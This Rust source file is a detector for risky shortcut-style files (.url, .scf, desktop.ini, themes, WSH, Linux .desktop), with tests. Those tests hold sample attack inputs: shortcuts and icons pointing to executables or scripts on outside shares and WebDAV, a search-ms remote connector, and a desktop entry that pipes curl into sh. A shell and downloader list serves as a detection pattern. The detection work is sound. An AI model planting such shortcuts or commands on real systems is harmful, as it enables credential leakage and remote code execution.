//! Small files of sections and keys that lead somewhere when they are opened or only shown: internet shortcuts, pinned
//! sites, shell commands, themes, settings of folders and of scripts, entries of Linux desktops.
//!
//! An icon or wallpaper on a share is fetched when the folder is shown, with the user's sign-in.

use super::place::{Place, Reach, percent_decoded, plain};
use super::{Analyzer, Findings, Found, Look, Sees, dde};
use crate::formats::{command_line, ini};
use crate::model::{IocType, Kind};
use crate::text;

/// Its row in the table.
pub(super) const ROW: Analyzer = Analyzer {
    name: "internet_shortcut",
    kinds: &[
        Kind::Url,
        Kind::Website,
        Kind::Desktop,
        Kind::Scf,
        Kind::DesktopIni,
        Kind::Theme,
        Kind::Wsh,
    ],
    sees: Sees::Content,
    findings: &["internet-shortcut", "search-connector", "script"],
    run,
};

fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
    let artifact = look.artifact;
    let source = text::to_utf8(&artifact.data);
    let borrowed = matches!(source, std::borrow::Cow::Borrowed(_));
    let mut web = None;
    let mut remote = false;
    for setting in ini::settings(&source) {
        let Some(use_of) = Use::of(artifact.kind, &setting) else {
            continue;
        };
        let shown = format!("{}={}", setting.key, setting.value);
        let placed = |found: Found| {
            if borrowed {
                found.at(setting.at)
            } else {
                found
            }
        };
        if use_of == Use::Command {
            findings.report(placed(command(look, &shown, setting.value)));
            continue;
        }
        // An at sign says that a text is one of a library's.
        let target = plain(setting.value.trim_start_matches('@'));
        match Place::of(&target, &look.knowledge.links) {
            Place::Moniker if is_search(&target) => {
                findings.report(placed(Found::new("search-connector", &shown)));
                remote = true;
            }
            Place::Share(reach) => {
                findings.ioc(IocType::Unc, &target);
                let program = reach == Reach::Outside
                    && (use_of == Use::Opens
                        && dde::runs(&last_step(&target).to_lowercase(), look.knowledge)
                        || setting.is("workingdirectory"));
                findings.report(placed(if program {
                    Found::new("internet-shortcut", &shown).variant("remote-program")
                } else {
                    remote_file(&shown)
                }));
                remote = true;
            }
            Place::Moniker => {
                findings.report(placed(remote_file(&shown)));
                remote = true;
            }
            Place::Local if use_of == Use::Opens && !target.is_empty() => {
                findings.report(placed(remote_file(&shown)));
                remote = true;
            }
            Place::Web => {
                findings.ioc(IocType::Url, &target);
                if use_of == Use::Opens {
                    web.get_or_insert(shown);
                }
            }
            Place::Local | Place::Harmless => {}
        }
    }
    if let Some(shown) = web
        && !remote
    {
        findings.report(Found::new("internet-shortcut", &shown));
    }
}

/// The name of the file that a way leads to.
pub(super) fn last_step(target: &str) -> &str {
    let path = target.split(['?', '#']).next().unwrap_or_default();
    let last = path.trim_end_matches(['.', ' ']).rsplit(['/', '\\']).next();
    last.unwrap_or_default()
}

fn remote_file(shown: &str) -> Found {
    Found::new("internet-shortcut", shown).variant("remote-file")
}

/// A command of a desktop entry.
fn command(look: &Look<'_>, shown: &str, value: &str) -> Found {
    let found = Found::new("script", &format!("desktop entry: {shown}"));
    let interpreters = &look.knowledge.commands.interpreters;
    let shells = [
        "sh", "bash", "dash", "zsh", "python3", "perl", "curl", "wget",
    ];
    let runs = command_line::commands(value).iter().any(|command| {
        interpreters.contains(&command.program) || shells.contains(&command.program.as_str())
    });
    if runs {
        found.variant("starts-process")
    } else {
        found
    }
}

/// Whether an address makes Explorer search a place that it names.
pub(super) fn is_search(target: &str) -> bool {
    let lower = percent_decoded(&target.to_lowercase());
    let lower = lower.trim_start();
    lower.starts_with("search") && lower.contains("location:")
}

/// What a setting is used for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Use {
    /// It is opened.
    Opens,
    /// It is fetched when the file is shown, or when it is opened.
    Fetched,
    /// It is run.
    Command,
}

impl Use {
    fn of(kind: Kind, setting: &ini::Setting<'_>) -> Option<Self> {
        let is = |key| setting.is(key);
        match kind {
            Kind::Url | Kind::Website => {
                let section = setting.section.to_ascii_lowercase();
                if !section.starts_with("internetshortcut") {
                    return None;
                }
                match () {
                    () if is("url") || is("baseurl") => Some(Self::Opens),
                    () if is("iconfile") || is("workingdirectory") => Some(Self::Fetched),
                    () => None,
                }
            }
            Kind::Desktop => match () {
                () if !setting.stands_in("desktop entry") => None,
                () if is("url") => Some(Self::Opens),
                () if is("exec") => Some(Self::Command),
                () => is("icon").then_some(Self::Fetched),
            },
            Kind::Scf => is("iconfile").then_some(Self::Fetched),
            // The script that the host runs.
            Kind::Wsh => {
                let script = setting.stands_in("scriptfile") && is("path");
                script.then_some(Self::Opens)
            }
            Kind::DesktopIni => {
                let named = is("iconresource") || is("iconfile") || is("logo");
                (named || setting.value.starts_with('@')).then_some(Self::Fetched)
            }
            // Wallpapers, sounds, styles, screen savers, cursors: whatever lies on a share.
            Kind::Theme => Some(Self::Fetched),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::{findings_of, holding};
    use super::*;

    fn found(kind: Kind, text: &str) -> Vec<String> {
        findings_of("internet_shortcut", &[holding(kind, text.as_bytes())])
            .into_iter()
            .map(|(id, severity)| format!("{id} {severity}"))
            .collect()
    }

    fn url(setting: &str) -> Vec<String> {
        found(Kind::Url, &format!("[InternetShortcut]\r\n{setting}\r\n"))
    }

    #[test]
    fn a_link_to_a_page_is_low_and_one_to_a_file_medium() {
        assert_eq!(
            url("URL=https://www.example.com/"),
            ["internet-shortcut low"]
        );
        for setting in [
            "URL=file://203.0.113.5/s/a.EXE",
            "url=\\\\host.example@80\\DavWWWRoot\\a.js",
            "URL=C:\\Windows\\iediagcmd.exe\r\nWorkingDirectory=\\\\203.0.113.5\\s",
        ] {
            assert!(
                url(setting).contains(&"internet-shortcut critical".to_owned()),
                "{setting}"
            );
        }
        for setting in [
            "URL=file://fileserver/s/a.exe",
            "URL=smb://fileserver/s/a.pdf",
            "URL=smb://203.0.113.5/s",
            "URL=\\\\192.168.0.3\\s\\a.js",
            "URL=file://203.0.113.5/s/a.pdf",
            "URL=file:///C:/Windows/System32/calc.exe",
            "URL=https://www.example.com/\r\nIconFile=\\\\192.0.2.1\\a.ico",
            "URL=https://www.example.com/\r\nWorkingDirectory=\\\\fileserver\\s",
            "URL=javascript:x()",
        ] {
            assert_eq!(url(setting), ["internet-shortcut medium"], "{setting}");
        }
        assert_eq!(
            url("URL=search-ms:query=a&crumb=location:%5C%5C192.0.2.1%5Cs"),
            ["search-connector medium"]
        );
        assert!(url("IconFile=C:\\Windows\\a.ico").is_empty());
        assert!(url("[Other]\r\nURL=https://www.example.com/").is_empty());
    }

    #[test]
    fn other_small_files_lead_somewhere_too() {
        assert_eq!(
            found(
                Kind::Scf,
                "[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\a.ico\r\n"
            ),
            ["internet-shortcut medium"]
        );
        assert!(
            found(
                Kind::Scf,
                "[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n"
            )
            .is_empty()
        );
        let folder = |settings: &str| {
            found(
                Kind::DesktopIni,
                &format!("[.ShellClassInfo]\r\n{settings}\r\n"),
            )
        };
        let remote = "IconResource=\\\\192.0.2.1\\s\\a.ico,0";
        assert_eq!(folder(remote), ["internet-shortcut medium"]);
        assert!(folder("IconResource=C:\\Windows\\a.dll,4\r\nInfoTip=see //a").is_empty());
        let host = |path: &str| found(Kind::Wsh, &format!("[ScriptFile]\r\nPath={path}\r\n"));
        assert_eq!(
            host("\\\\203.0.113.5\\s\\a.vbs"),
            ["internet-shortcut critical"]
        );
        assert_eq!(host("C:\\s\\a.vbs"), ["internet-shortcut medium"]);
        assert!(found(Kind::Wsh, "[Options]\r\nPath=C:\\s\\a.vbs\r\n").is_empty());
        let theme = |wallpaper: &str| {
            found(
                Kind::Theme,
                &format!("[Theme]\r\n[Control Panel\\Desktop]\r\nWallpaper={wallpaper}\r\n"),
            )
        };
        assert_eq!(
            theme("\\\\192.0.2.1\\s\\a.jpg"),
            ["internet-shortcut medium"]
        );
        assert!(theme("%SystemRoot%\\web\\a.jpg").is_empty());
        assert_eq!(
            found(
                Kind::Desktop,
                "[Desktop Entry]\nType=Application\nExec=sh -c \"curl x|sh\"\n"
            ),
            ["script critical"]
        );
        assert_eq!(
            found(Kind::Desktop, "[Desktop Entry]\nExec=gedit %U\n"),
            ["script medium"]
        );
    }
}
